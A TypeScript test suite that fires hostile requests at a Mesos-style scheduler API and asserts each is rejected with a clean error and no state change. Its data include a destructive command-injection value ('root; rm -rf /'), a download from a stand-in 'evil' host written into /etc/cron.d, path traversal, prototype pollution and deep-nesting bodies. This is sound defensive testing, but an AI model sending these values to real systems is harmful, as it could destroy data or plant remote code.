// Hostile input to POST /api/v1/scheduler on a real single-voter master, as an outside tester
// sends it: bodies that are not calls, wrong types, absurd numbers, huge lists and strings,
// deeply nested JSON, bad ids and roles, another framework's stream id. Each must be a 4xx with
// the {"error": {"code", "message"}} envelope (no stack trace), leave the replicated state as it
// was, and leave the master answering /health. Calls Mesos accepts and ignores (a DECLINE of
// unknown offers, an ACKNOWLEDGE of an unknown update) answer 202 and change nothing either.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { stateHash } from '../../src/state-machine/hash.ts';
import { errorOf } from '../support/answers.ts';
import { startSingleMaster, type SingleMaster } from '../support/master.ts';
import { frameworkInfo, SchedulerClient, schedulerPost, type CallAnswer } from './support/scheduler-client.ts';

let cluster: SingleMaster;
let first: SchedulerClient;
let second: SchedulerClient;

test.before(async () => {
  cluster = await startSingleMaster();
  first = await SchedulerClient.subscribe(cluster.url, frameworkInfo({ name: 'hostile-1' }));
  second = await SchedulerClient.subscribe(cluster.url, frameworkInfo({ name: 'hostile-2' }));
});
test.after(async () => {
  first.close();
  second.close();
  await cluster.stop();
});

const hash = (): string => stateHash(cluster.master.machine.state);

function assertEnvelope(answer: CallAnswer, status: number, code: string | null, label: string): void {
  assert.is(answer.status, status, `${label}: ${JSON.stringify(answer.body).slice(0, 300)}`);
  const error = errorOf(answer.body, label);
  if (code !== null) assert.is(error.code, code, label);
  assert.not.match(error.message, /\n\s+at /, `${label}: no stack trace`);
}

async function assertHealthy(): Promise<void> {
  const health = await fetch(`${cluster.url}/health`, { signal: AbortSignal.timeout(20_000) });
  assert.is(health.status, 200, 'the master still answers /health');
}

/** Sends `body` raw and checks a 4xx envelope with the state unchanged. */
async function refused(
  label: string,
  body: unknown,
  status: number,
  code: string | null,
  headers: Record<string, string> = {},
): Promise<CallAnswer> {
  const before = hash();
  const answer = await schedulerPost(cluster.url, body, headers);
  assertEnvelope(answer, status, code, label);
  assert.is(hash(), before, `${label}: the state is unchanged`);
  return answer;
}

/** A call of the first framework, on its own stream. */
const own = (type: string, extra: Record<string, unknown>): Record<string, unknown> => ({
  framework_id: { value: first.frameworkId },
  type,
  ...extra,
});
const onStream = (): Record<string, string> => ({ 'mesos-stream-id': first.streamId });

test('bodies that are not a call object are 400 with the envelope', async () => {
  await refused('[]', '[]', 400, 'INVALID_BODY');
  await refused('"x"', '"x"', 400, 'INVALID_BODY');
  await refused('null', 'null', 400, 'INVALID_BODY');
  await refused('42', '42', 400, 'INVALID_BODY');
  await refused('empty', '', 400, 'BAD_REQUEST');
  await refused('truncated', '{"type": "SUBS', 400, 'BAD_REQUEST');
  await refused('__proto__', '{"__proto__": {"type": "SUBSCRIBE"}}', 400, 'BAD_REQUEST');
  await refused('no type', {}, 400, 'UNKNOWN_CALL');
  await refused('numeric type', { type: 5 }, 400, 'INVALID_BODY');
  await refused('inherited name as type', { type: 'constructor' }, 400, 'INVALID_BODY');
  await refused('unknown enum', { type: 'LAUNCH_NUKES' }, 400, 'INVALID_BODY');
  await assertHealthy();
});

test('deeply nested JSON and oversized bodies are refused without a crash', async () => {
  const depth = 100_000;
  // Nesting is bounded before parsing (src/util/json-depth.ts, maxJsonNestingDepth): code that
  // walks a body recursively cannot overflow its stack, so even an unknown field cannot nest deeper.
  await refused('deep arrays', `${'['.repeat(depth)}${']'.repeat(depth)}`, 400, 'BAD_REQUEST');
  await refused('deep objects', `${'{"a":'.repeat(depth / 2)}1${'}'.repeat(depth / 2)}`, 400, 'BAD_REQUEST');
  const nested = `${'{"a":'.repeat(depth / 2)}1${'}'.repeat(depth / 2)}`;
  const deepInCall = `{"framework_id": {"value": "${first.frameworkId}"}, "type": "REVIVE", "revive": {"deep": ${nested}}}`;
  await refused('deep unknown field', deepInCall, 400, 'BAD_REQUEST');
  const shallow = `{"framework_id": {"value": "${first.frameworkId}"}, "type": "REVIVE", "revive": {"deep": ${'{"a":'.repeat(50)}1${'}'.repeat(50)}}}`;
  assert.is(
    (await schedulerPost(cluster.url, shallow, onStream())).status,
    202,
    'unknown nested fields within the bound are ignored, as in protobuf JSON',
  );
  await refused(
    '2 MB body',
    own('DECLINE', { decline: { offer_ids: Array.from({ length: 100_000 }, () => ({ value: 'offer' })) } }),
    413,
    'PAYLOAD_TOO_LARGE',
    onStream(),
  );
  await refused(
    'RECONCILE of 100k tasks',
    own('RECONCILE', {
      reconcile: { tasks: Array.from({ length: 100_000 }, (_, index) => ({ task_id: { value: `t${index}` } })) },
    }),
    413,
    'PAYLOAD_TOO_LARGE',
    onStream(),
  );
  await assertHealthy();
});

test('content type, accept and chunked bodies', async () => {
  const subscribe = { type: 'SUBSCRIBE', subscribe: { framework_info: frameworkInfo() } };
  await refused('text/plain', subscribe, 415, 'UNSUPPORTED_MEDIA_TYPE', { 'content-type': 'text/plain' });
  await refused('form', subscribe, 415, 'UNSUPPORTED_MEDIA_TYPE', {
    'content-type': 'application/x-www-form-urlencoded',
  });
  await refused('json-ish', subscribe, 415, 'UNSUPPORTED_MEDIA_TYPE', { 'content-type': 'application/jsonx' });
  await refused('protobuf accept', subscribe, 406, 'NOT_ACCEPTABLE', { accept: 'application/x-protobuf' });
  await refused('recordio of protobuf', subscribe, 406, 'NOT_ACCEPTABLE', {
    accept: 'application/recordio',
    'message-accept': 'application/x-protobuf',
  });
  // A chunked body (no Content-Length) is read like any other: here a malformed one.
  const chunks = new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(new TextEncoder().encode('{"type": '));
      controller.enqueue(new TextEncoder().encode('"NOPE"}'));
      controller.close();
    },
  });
  const before = hash();
  const response = await fetch(`${cluster.url}/api/v1/scheduler`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: chunks,
    duplex: 'half',
    signal: AbortSignal.timeout(20_000),
  } as RequestInit);
  assert.is(response.status, 400);
  assert.is(((await response.json()) as { error: { code: string } }).error.code, 'INVALID_BODY');
  assert.is(hash(), before);
  await assertHealthy();
});

test('SUBSCRIBE with wrong types, absurd numbers and bad ids', async () => {
  const subscribe = (info: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
    type: 'SUBSCRIBE',
    subscribe: { framework_info: info, ...extra },
  });
  await refused('framework_info missing', { type: 'SUBSCRIBE', subscribe: {} }, 400, 'INVALID_BODY');
  await refused('framework_info null', subscribe(null as never), 400, 'INVALID_BODY');
  await refused('framework_info array', subscribe([] as never), 400, 'INVALID_BODY');
  await refused(
    'failover 1e309',
    '{"type":"SUBSCRIBE","subscribe":{"framework_info":{"name":"x","failover_timeout":1e309}}}',
    400,
    'INVALID_BODY',
  );
  await refused('failover 1e308', subscribe(frameworkInfo({ failover_timeout: 1e308 })), 400, 'INVALID_BODY');
  await refused(
    'failover 1e20 as a string',
    subscribe(frameworkInfo({ failover_timeout: '99999999999999999999' })),
    400,
    'INVALID_BODY',
  );
  await refused('failover negative', subscribe(frameworkInfo({ failover_timeout: -1 })), 400, 'INVALID_BODY');
  await refused('failover NaN string', subscribe(frameworkInfo({ failover_timeout: 'NaN' })), 400, 'INVALID_BODY');
  await refused('name 900 KB', subscribe(frameworkInfo({ name: 'x'.repeat(900_000) })), 400, 'INVALID_BODY');
  await refused('name a number', subscribe(frameworkInfo({ name: 7 })), 400, 'INVALID_BODY');
  await refused('role traversal', subscribe(frameworkInfo({ role: '../etc' })), 400, 'INVALID_BODY');
  await refused(
    '100k roles',
    subscribe(frameworkInfo({ roles: Array(100_000).fill('r'), capabilities: [{ type: 'MULTI_ROLE' }] })),
    400,
    'INVALID_BODY',
  );
  await refused('capability null', subscribe(frameworkInfo({ capabilities: [null] })), 400, 'INVALID_BODY');
  await refused(
    '1000 capabilities',
    subscribe(frameworkInfo({ capabilities: Array(1000).fill({ type: 'X' }) })),
    400,
    'INVALID_BODY',
  );
  await refused(
    'id with /',
    { framework_id: { value: 'a/b' }, ...subscribe(frameworkInfo({ id: { value: 'a/b' } })) },
    400,
    'INVALID_BODY',
  );
  await refused(
    'id of 10k chars',
    { framework_id: { value: 'x'.repeat(10_000) }, ...subscribe(frameworkInfo({ id: { value: 'x'.repeat(10_000) } })) },
    400,
    'INVALID_BODY',
  );
  await refused('id a string', { framework_id: 'abc', ...subscribe(frameworkInfo()) }, 400, 'INVALID_BODY');
  await refused(
    'suppressed_roles of numbers',
    subscribe(frameworkInfo(), { suppressed_roles: [1] }),
    400,
    'INVALID_BODY',
  );
  await refused(
    'suppressed_roles traversal',
    subscribe(frameworkInfo(), { suppressed_roles: ['../x'] }),
    400,
    'INVALID_BODY',
  );
  await refused('with a stream id', subscribe(frameworkInfo()), 400, 'BAD_REQUEST', {
    'mesos-stream-id': first.streamId,
  });
  await assertHealthy();
});

test("another framework's stream id, or none, is refused and changes nothing", async () => {
  await refused('TEARDOWN on the other stream', own('TEARDOWN', {}), 400, 'STREAM_ID_MISMATCH', {
    'mesos-stream-id': second.streamId,
  });
  await refused('TEARDOWN without a stream', own('TEARDOWN', {}), 400, 'STREAM_ID_REQUIRED');
  await refused(
    'unknown framework',
    { framework_id: { value: 'nobody' }, type: 'TEARDOWN' },
    400,
    'UNKNOWN_FRAMEWORK',
    onStream(),
  );
  await refused('no framework id', { type: 'TEARDOWN' }, 400, 'INVALID_BODY', onStream());
  assert.is(cluster.master.machine.state.frameworks.get(first.frameworkId as never)?.state, 'CONNECTED');
  await assertHealthy();
});

test('ACCEPT and DECLINE with hostile offers, operations and resources', async () => {
  const reserve = (resources: unknown[]) =>
    own('ACCEPT', {
      accept: { offer_ids: [{ value: 'o1' }], operations: [{ type: 'RESERVE', reserve: { resources } }] },
    });
  const scalar = (value: unknown, extra: Record<string, unknown> = {}) => ({
    name: 'cpus',
    type: 'SCALAR',
    scalar: { value },
    role: 'r',
    ...extra,
  });
  const ports = (range: unknown[]) => ({ name: 'ports', type: 'RANGES', ranges: { range }, role: 'r' });
  await refused('negative scalar', reserve([scalar(-1)]), 400, 'INVALID_BODY', onStream());
  await refused('1e308 scalar', reserve([scalar(1e308), scalar(1e308)]), 400, 'INVALID_BODY', onStream());
  await refused(
    'null scalar',
    reserve([{ name: 'cpus', type: 'SCALAR', scalar: null }]),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused('scalar string', reserve([scalar('lots')]), 400, 'INVALID_BODY', onStream());
  await refused('reversed range', reserve([ports([{ begin: 10, end: 5 }])]), 400, 'INVALID_BODY', onStream());
  await refused('fractional range', reserve([ports([{ begin: 0.5, end: 1e300 }])]), 400, 'INVALID_BODY', onStream());
  await refused(
    'unknown resource type',
    reserve([{ name: 'cpus', type: 'WHAT', scalar: { value: 1 } }]),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'resource name of 10k chars',
    reserve([{ ...scalar(1), name: 'x'.repeat(10_000) }]),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    '10k resources',
    reserve(Array.from({ length: 10_000 }, (_, index) => ({ ...scalar(1), name: `n${index}` }))),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused('role traversal', reserve([scalar(1, { role: 'a/../b' })]), 400, 'INVALID_BODY', onStream());
  await refused(
    'reservation without role',
    reserve([scalar(1, { reservations: [{}] })]),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'DESTROY without volumes',
    own('ACCEPT', { accept: { operations: [{ type: 'DESTROY' }] } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'CREATE of a volume with a container path leaving the sandbox',
    own('ACCEPT', {
      accept: {
        operations: [
          {
            type: 'CREATE',
            create: {
              volumes: [
                {
                  ...scalar(1, { role: 'r' }),
                  name: 'disk',
                  disk: { persistence: { id: 'v' }, volume: { container_path: '../../etc', mode: 'RW' } },
                },
              ],
            },
          },
        ],
      },
    }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'unsupported operation',
    own('ACCEPT', { accept: { operations: [{ type: 'GROW_VOLUME' }] } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused('operation null', own('ACCEPT', { accept: { operations: [null] } }), 400, 'INVALID_BODY', onStream());
  await refused('offer id null', own('DECLINE', { decline: { offer_ids: [null] } }), 400, 'INVALID_BODY', onStream());
  await refused('offer id empty', own('DECLINE', { decline: { offer_ids: [{}] } }), 400, 'INVALID_BODY', onStream());
  await refused('decline an array', own('DECLINE', { decline: [] }), 400, 'INVALID_BODY', onStream());
  await refused(
    'refuse_seconds -1',
    own('DECLINE', { decline: { offer_ids: [], filters: { refuse_seconds: -1 } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'refuse_seconds "1e5"',
    own('DECLINE', { decline: { offer_ids: [], filters: { refuse_seconds: '1e5' } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  // Accepted as Mesos accepts them: unknown and duplicate offers are ignored by DECLINE; an
  // absurd refuse_seconds is capped at a year; an ACCEPT of duplicate offers is refused by the
  // state machine (its tasks would be reported lost), and nothing is booked.
  const before = hash();
  for (const call of [
    own('DECLINE', { decline: { offer_ids: [{ value: 'o1' }, { value: 'o1' }] } }),
    own('DECLINE', { decline: { offer_ids: [{ value: 'o1' }], filters: { refuse_seconds: 1e300 } } }),
    own('DECLINE', { decline: { offer_ids: [{ value: 'o1' }], filters: { refuse_seconds: -0 } } }),
    own('ACCEPT', { accept: { offer_ids: [{ value: 'o1' }, { value: 'o1' }], operations: [] } }),
  ]) {
    const answer = await schedulerPost(cluster.url, call, onStream());
    assert.is(answer.status, 202, JSON.stringify(answer.body));
  }
  const changed = cluster.master.machine.state.tasks.size;
  assert.is(changed, 0, 'no task was booked');
  assert.ok(hash() === before || cluster.master.machine.state.offers.size === 0, 'no offer was consumed');
  await assertHealthy();
});

test('LAUNCH with hostile task infos', async () => {
  const launch = (task: Record<string, unknown>) =>
    own('ACCEPT', {
      accept: {
        offer_ids: [{ value: 'o1' }],
        operations: [
          {
            type: 'LAUNCH',
            launch: {
              task_infos: [
                {
                  name: 't',
                  task_id: { value: 't1' },
                  agent_id: { value: 'a1' },
                  command: { value: 'true' },
                  resources: [],
                  ...task,
                },
              ],
            },
          },
        ],
      },
    });
  await refused('task id with /', launch({ task_id: { value: 'a/b' } }), 400, 'INVALID_BODY', onStream());
  await refused('task id ..', launch({ task_id: { value: '..' } }), 400, 'INVALID_BODY', onStream());
  await refused(
    'task id of 10k chars',
    launch({ task_id: { value: 'x'.repeat(10_000) } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'health delay 1e308',
    launch({ health_check: { delay_seconds: 1e308 } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'health interval negative',
    launch({ health_check: { interval_seconds: -5 } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'health failures fractional',
    launch({ health_check: { consecutive_failures: 1.5 } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'health port 1e9',
    launch({ health_check: { type: 'HTTP', http: { port: 1e9 } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'grace negative',
    launch({ kill_policy: { grace_period: { nanoseconds: -1e18 } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'grace 1e300',
    launch({ kill_policy: { grace_period: { nanoseconds: 1e300 } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'command of 900 KB',
    launch({ command: { value: 'x'.repeat(900_000) } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'env name with =',
    launch({ command: { value: 'x', environment: { variables: [{ name: 'A=B', value: 'x' }] } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'user injection',
    launch({ command: { value: 'x', user: 'root; rm -rf /' } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'uri output_file outside the sandbox',
    launch({ command: { value: 'x', uris: [{ value: 'http://evil/x', output_file: '../../etc/cron.d/x' }] } }),
    400,
    'INVALID_URI',
    onStream(),
  );
  await refused(
    'custom executor',
    launch({ executor: { executor_id: { value: 'e' } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    'secret env',
    launch({ command: { value: 'x', environment: { variables: [{ name: 'A', type: 'SECRET' }] } } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused('container type unknown', launch({ container: { type: 'KVM' } }), 400, 'INVALID_BODY', onStream());
  await assertHealthy();
});

test('ACKNOWLEDGE, KILL, RECONCILE, REVIVE, SUPPRESS and UPDATE_FRAMEWORK with hostile values', async () => {
  const ack = (uuid: unknown) =>
    own('ACKNOWLEDGE', { acknowledge: { uuid, agent_id: { value: 'a' }, task_id: { value: 't' } } });
  await refused('uuid not base64', ack('!!!!'), 400, 'INVALID_BODY', onStream());
  await refused('uuid of 15 bytes', ack(Buffer.alloc(15).toString('base64')), 400, 'INVALID_BODY', onStream());
  await refused('uuid a number', ack(5), 400, 'INVALID_BODY', onStream());
  await refused('uuid huge', ack('A'.repeat(100_000)), 400, 'INVALID_BODY', onStream());
  await refused('kill task id a string', own('KILL', { kill: { task_id: 'nope' } }), 400, 'INVALID_BODY', onStream());
  await refused('kill missing', own('KILL', {}), 400, 'INVALID_BODY', onStream());
  await refused(
    'reconcile tasks an object',
    own('RECONCILE', { reconcile: { tasks: {} } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused(
    '100k roles',
    own('REVIVE', { revive: { roles: Array(100_000).fill('x') } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  await refused('role a number', own('SUPPRESS', { suppress: { role: 5 } }), 400, 'INVALID_BODY', onStream());
  await refused('role traversal', own('SUPPRESS', { suppress: { roles: ['../x'] } }), 400, 'INVALID_BODY', onStream());
  await refused(
    'role of 10k chars',
    own('SUPPRESS', { suppress: { roles: ['x'.repeat(10_000)] } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  const update = (info: Record<string, unknown>) =>
    own('UPDATE_FRAMEWORK', {
      update_framework: { framework_info: { ...frameworkInfo(), id: { value: first.frameworkId }, ...info } },
    });
  await refused('failover 1e300', update({ failover_timeout: 1e300 }), 400, 'INVALID_BODY', onStream());
  await refused(
    "another framework's id",
    update({ id: { value: second.frameworkId } }),
    400,
    'INVALID_BODY',
    onStream(),
  );
  // Mesos answers these 202 and does nothing: an unknown update, an unknown task, unknown inverse offers.
  const before = hash();
  for (const call of [
    ack('AAAAAAAAAAAAAAAAAAAAAA=='),
    own('KILL', { kill: { task_id: { value: 'nope' } } }),
    own('RECONCILE', {
      reconcile: { tasks: Array.from({ length: 20_000 }, (_, index) => ({ task_id: { value: `t${index}` } })) },
    }),
    own('ACCEPT_INVERSE_OFFERS', { accept_inverse_offers: { inverse_offer_ids: [{ value: 'nope' }] } }),
  ]) {
    const answer = await schedulerPost(cluster.url, call, onStream());
    assert.is(answer.status, 202, JSON.stringify(answer.body));
  }
  assert.is(hash(), before, 'nothing replicated changed');
  await assertHealthy();
});

test("SUPPRESS of roles the framework does not have keeps the leader's memory bounded", async () => {
  for (let round = 0; round < 20; round++) {
    const roles = Array.from({ length: 64 }, (_, index) => `r${round}-${index}`);
    const answer = await schedulerPost(cluster.url, own('SUPPRESS', { suppress: { roles } }), onStream());
    assert.is(answer.status, 202);
  }
  const report = cluster.master.facade.allocation.report();
  const mine = report.frameworks.find((framework) => framework.frameworkId === first.frameworkId);
  assert.ok(mine !== undefined, 'the framework is in the allocation report');
  assert.equal(mine.suppressedRoles, [], 'roles it is not subscribed to are not kept');
  await assertHealthy();
});

test.run();
